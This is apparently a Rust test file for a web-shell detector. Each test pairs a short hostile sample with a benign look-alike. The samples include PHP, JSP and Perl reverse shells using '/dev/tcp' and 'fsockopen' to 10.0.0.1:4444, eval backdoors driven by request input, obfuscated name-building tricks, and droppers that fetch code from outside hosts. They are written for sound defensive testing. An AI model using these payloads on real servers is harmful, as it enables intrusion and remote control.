//! One hand-written shell per signal added for issue 5 (in the style of real ones, not copied
//! from the corpus), each with a benign look-alike that must stay below the threshold.

use rampart_script::{analyze, Lang, Verdict};

fn scan(src: &[u8], lang: Lang) -> Verdict {
    analyze(src, lang)
}

#[path = "support/verdict.rs"]
mod verdict;
use verdict::{assert_clean, assert_detected};

#[test]
fn script_encoder_blocks_are_decoded_and_analysed() {
    // Encodes: Set sh = Server.CreateObject("WScript.Shell") / sh.Run "cmd /c " & Request.Form("c")
    let v = scan(b"<%#@~^AAAAAA==j\x7fY~kt,'PU+M-+MR/D\x7flOn}4L\x7f^YvJ\x7fU^.kaYc?4+ssr#@#@&k4R\"EU~rm:[~Jm~J,',In$E\x7f/YcsK.:vJ^J*AAAAAA==^#~@%>", Lang::Asp);
    assert_detected(&v, "flow.command");
    assert!(v.reasons.iter().any(|r| r.signal == "deobf.script-encoder"));
    assert!(
        v.reasons
            .iter()
            .any(|r| r.signal == "flow.command" && r.layer == 1),
        "{v:#?}"
    );
}

#[test]
fn script_encoder_page_without_shell_stays_clean() {
    // An encoded block that decodes to noise: decoded, reported as encoded, not as a shell.
    let v = scan(b"<%#@~^AAAAAA==x@&x@&xAAAAAA==^#~@%>", Lang::Asp);
    assert_clean(&v);
}

#[test]
fn xor_of_bare_words_and_literals_names_the_function() {
    // 'create_function' = ('c2e'|'A@A') ^ … : each name computed from bit arithmetic on
    // literals and bare words, as obfuscators emit them.
    let a = b"create_function";
    let k = b"K3yK3yK3yK3yK3y";
    let x: Vec<u8> = a.iter().zip(k).map(|(p, q)| p ^ q).collect();
    let lit = |v: &[u8]| v.iter().map(|b| format!("\\x{b:02x}")).collect::<String>();
    let src = format!(
        "<?php $kQ=\"{}\"^K3yK3yK3yK3yK3y;$x9='a'.'b';$p=$kQ(null,$_COOKIE['z']);$p();",
        lit(&x)
    );
    let v = scan(src.as_bytes(), Lang::Php);
    assert_detected(&v, "deobf.hidden-name");
    assert!(
        v.reasons.iter().any(|r| r.detail.contains("create_function")),
        "{v:#?}"
    );
}

#[test]
fn bitwise_constants_in_applications_stay_strings_of_nothing() {
    // Flags ORed together and union types are not strings.
    let src = b"<?php
        function f(array|string|null $v): int { return API_REQUIRED | API_NOT_EMPTY; }
        $flags = E_ALL & ~E_NOTICE; $x = FOO . 'bar';
        echo strtoupper($_GET['q'] ?? '');";
    assert_clean(&scan(src, Lang::Php));
}

#[test]
fn superglobal_named_through_a_variable_variable_is_request_input() {
    let src = b"<?php $a = 'PO'; $n = '_' . $a . 'ST'; if (isset(${$n}['q'])) { eval(${$n}['q']); }";
    assert_detected(&scan(src, Lang::Php), "php.flow.code");
    let src = b"<?php @eval($/*x*/{\"_P\".\"OST\"}['op']);";
    assert_detected(&scan(src, Lang::Php), "php.flow.code");
}

#[test]
fn variable_variable_of_an_application_global_stays_clean() {
    let src = b"<?php $n = 'config'; $v = ${$n}['db']; echo htmlspecialchars($v);";
    assert_clean(&scan(src, Lang::Php));
}

#[test]
fn globals_array_and_appends_carry_constants() {
    let src = b"<?php $GLOBALS['f'] = 'ass'; $GLOBALS['f'] .= 'ert'; $g = $GLOBALS['f']; $g($_POST['x']);";
    let v = scan(src, Lang::Php);
    assert_detected(&v, "php.flow.variable-function");
}

#[test]
fn eval_of_an_in_file_decoder_over_a_blob_is_detected() {
    let blob = "Q".repeat(300);
    let src = format!(
        "<?php function dx($s, $k) {{ $o = ''; for ($i = 0; $i < strlen($s); $i++) {{ $o .= chr(ord($s[$i]) ^ ord($k[$i % 4])); }} return $o; }}
        eval(dx('{blob}', 'k3y!'));"
    );
    assert_detected(&scan(src.as_bytes(), Lang::Php), "deobf.eval-dynamic");
}

#[test]
fn eval_of_a_decoding_loop_output_is_detected() {
    let src = b"<?php $e='4a6b'; $d=''; for($o=0;$o<strlen($e);$o+=2){$d.=chr(hexdec($e[$o].$e[$o+1])^7);} eval($d);";
    assert_detected(&scan(src, Lang::Php), "deobf.eval-dynamic");
}

#[test]
fn template_engine_eval_stays_clean() {
    // Smarty / Twig style: eval of compiled template text from a method.
    let src = b"<?php class T { function run($tpl) { $code = $this->compile($tpl); eval('?>' . $code); } }";
    assert_clean(&scan(src, Lang::Php));
}

#[test]
fn many_literal_xors_are_obfuscation() {
    let mut src = String::from("<?php ");
    for i in 0..20 {
        src.push_str(&format!("$v{i}='a{i}Q'^'Z!x';"));
    }
    assert_detected(&scan(src.as_bytes(), Lang::Php), "deobf.string-bitwise");
}

#[test]
fn php_reverse_shell_is_detected() {
    let src = b"<?php $s = fsockopen('10.0.0.1', 4444); $p = proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $pipes);";
    assert_detected(&scan(src, Lang::Php), "capability.reverse-shell");
    let src = b"<?php exec(\"/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\");";
    assert_detected(&scan(src, Lang::Php), "capability.reverse-shell");
}

#[test]
fn php_socket_client_with_a_fixed_command_stays_clean() {
    let src = b"<?php $s = fsockopen('smtp.example.org', 25); fwrite($s, 'HELO x'); exec('hostname', $out);";
    assert_clean(&scan(src, Lang::Php));
}

#[test]
fn jsp_reverse_shell_and_tunnel_are_detected() {
    let src = b"<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"bash -i >& /dev/tcp/192.0.2.7/9001 0>&1\"}); %>";
    assert_detected(&scan(src, Lang::Jsp), "capability.reverse-shell");
    let src = b"<%@ page import=\"java.net.*\" %><% String h = request.getHeader(\"X-Target\"); int p = Integer.parseInt(request.getHeader(\"X-Port\")); Socket s = new Socket(h, p); %>";
    assert_detected(&scan(src, Lang::Jsp), "flow.tunnel");
}

#[test]
fn jsp_fixed_socket_stays_clean() {
    let src = b"<%@ page import=\"java.net.*\" %><% Socket s = new Socket(\"localhost\", 8080); out.println(request.getParameter(\"q\") != null); %>";
    assert_clean(&scan(src, Lang::Jsp));
}

#[test]
fn aspx_request_access_hidden_in_base64_is_detected() {
    // "Request.Item[\"z\"]" in base64, evaluated by a JScript.NET page.
    let src = b"<%@ Page Language=\"Jscript\"%><% var e = eval; e(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(\"UmVxdWVzdC5JdGVtWyJ6Il0=\"))); %>";
    assert_detected(&scan(src, Lang::Aspx), "deobf.hidden-source");
}

#[test]
fn perl_cgi_shells_are_detected() {
    let src = b"#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('cmd');\nprint \"Content-type: text/plain\n\n\";\nprint `$c 2>&1`;\n";
    assert_detected(&scan(src, Lang::Perl), "perl.cgi-command");
    let src = b"#!/usr/bin/perl\nuse Socket;\nsocket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\nconnect(S, sockaddr_in(4444, inet_aton('10.0.0.1')));\nopen(STDIN, '>&S'); open(STDOUT, '>&S');\nexec('/bin/sh -i');\n";
    assert_detected(&scan(src, Lang::Perl), "capability.reverse-shell");
}

#[test]
fn perl_cgi_without_commands_stays_clean() {
    // Reads the query, runs a fixed command, comments mention system($x) and a "|" string.
    let src = b"#!/usr/bin/perl\n# never system($ENV{QUERY_STRING})\nmy $q = $ENV{'QUERY_STRING'};\nmy @parts = split(/\\|/, $q);\nprint join(\"|\", @parts);\nsystem('date');\n=pod\n`$q`\n=cut\n";
    assert_clean(&scan(src, Lang::Perl));
    // A compiled CGI program.
    assert_clean(&scan(
        b"\x7fELF\x02\x01\x01\0QUERY_STRING system($x) `$y`",
        Lang::Perl,
    ));
}

#[test]
fn perl_extensions_map_to_perl() {
    assert_eq!(
        Lang::from_path(std::path::Path::new("/srv/cgi-bin/a.cgi")),
        Some(Lang::Perl)
    );
    assert_eq!(Lang::from_path(std::path::Path::new("x.PL")), Some(Lang::Perl));
}

#[test]
fn upload_stored_as_a_fixed_php_script_is_a_dropper() {
    let src = b"<?php move_uploaded_file($userfile, 'cache' . '.php'); echo 'ok';";
    assert_detected(&scan(src, Lang::Php), "php.dropper");
    let src = b"<?php move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . md5(time()) . '.jpg');";
    assert_clean(&scan(src, Lang::Php));
}

#[test]
fn function_name_assembled_piece_by_piece_and_called_with_input() {
    let src = b"<?php $r = \"c\".\"o\".\"p\".\"y\"; $r($_FILES['f']['tmp_name'], $_FILES['f']['name']);";
    assert_detected(&scan(src, Lang::Php), "php.flow.computed-call");
    // A closure with strings inside is not a computed name.
    let src = b"<?php $cmp = function($a, $b) { return $a . 'x' . 'y' . 'z' == $b; }; if ($cmp($_GET['a'], 'q')) { echo 1; }";
    assert_clean(&scan(src, Lang::Php));
}

#[test]
fn eval_of_code_fetched_from_a_url() {
    let src = b"<?php $b = file_get_contents('http://198.51.100.3/1.txt'); eval($b);";
    assert_detected(&scan(src, Lang::Php), "deobf.eval-dynamic");
}

#[test]
fn short_encoded_literal_holding_a_one_line_shell_is_decoded() {
    // base64 of `<?php @eval($_POST['k']);?>`, written out by a dropper.
    let src =
        b"<?php $c = 'PD9waHAgQGV2YWwoJF9QT1NUWydrJ10pOz8+'; file_put_contents('a.php', base64_decode($c));";
    let v = scan(src, Lang::Php);
    assert_detected(&v, "php.flow.code");
    assert!(
        v.reasons
            .iter()
            .any(|r| r.signal == "php.flow.code" && r.layer == 1),
        "{v:#?}"
    );
    // An ordinary base64 constant (a PNG pixel) stays clean.
    let src = b"<?php $px = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk'; echo base64_decode($px);";
    assert_clean(&scan(src, Lang::Php));
}

#[test]
fn asp_execute_of_an_in_file_decoder() {
    let src = b"<%\nFunction dc(ByVal s, ByVal k)\n  For i = 1 To Len(s) Step 2\n    dc = dc & Chr(CLng(\"&H\" & Mid(s, i, 2)) Xor k)\n  Next\nEnd Function\nExecute dc(\"6877656D2B73697278\", \"13\")\n%>";
    assert_detected(&scan(src, Lang::Asp), "deobf.eval-dynamic");
    let src = b"<%execute(strreverse(\")\"\"q\"\"(tseuqer lave\"))%>";
    assert_detected(&scan(src, Lang::Asp), "flow.code");
}

#[test]
fn asp_execute_of_a_fixed_include_stays_clean() {
    let src = b"<%\nFunction header()\n  header = \"Response.Write 1\"\nEnd Function\nDim t : t = Request.QueryString(\"t\")\nResponse.Write Server.HTMLEncode(t)\n%>";
    assert_clean(&scan(src, Lang::Asp));
}

#[test]
fn jscript_eval_alias_with_request_input() {
    let src = b"<SCRIPT RUNAT=SERVER LANGUAGE=JAVASCRIPT>var p = Request.Form('z'); var t = {'E': eval}; t.E(p + '');</SCRIPT>";
    assert_detected(&scan(src, Lang::Asp), "deobf.eval-alias");
}

#[test]
fn asp_stream_saved_as_a_script_is_a_dropper() {
    let src = b"<%\nSet x = Server.CreateObject(\"Microsoft.XMLHTTP\")\nx.Open \"GET\", \"http://198.51.100.9/s.txt\", False\nx.Send()\nSet st = Server.CreateObject(\"ADODB.Stream\")\nst.Type = 1 : st.Open : st.Write x.responseBody\nst.SaveToFile Server.MapPath(\"news.asp\"), 2\n%>";
    assert_detected(&scan(src, Lang::Asp), "flow.dropper");
    let src = b"<%\nSet st = Server.CreateObject(\"ADODB.Stream\")\nst.Open : st.WriteText \"report\"\nst.SaveToFile Server.MapPath(\"report.csv\"), 2\n%>";
    assert_clean(&scan(src, Lang::Asp));
}

#[test]
fn register_globals_command_appended_to_and_checked_is_still_request_input() {
    let src = b"<?php extract($HTTP_POST_VARS);\nif (!empty($command)) {\n  if (ereg('^cd (.*)$', $command, $regs)) { chdir($regs[1]); }\n  $command .= ' 2>&1';\n  system($command);\n}";
    assert_detected(&scan(src, Lang::Php), "php.flow.command-global");
    // A variable set before use is the script's own.
    let src = b"<?php $command = 'uptime'; $command .= ' 2>&1'; system($command);";
    assert_clean(&scan(src, Lang::Php));
}
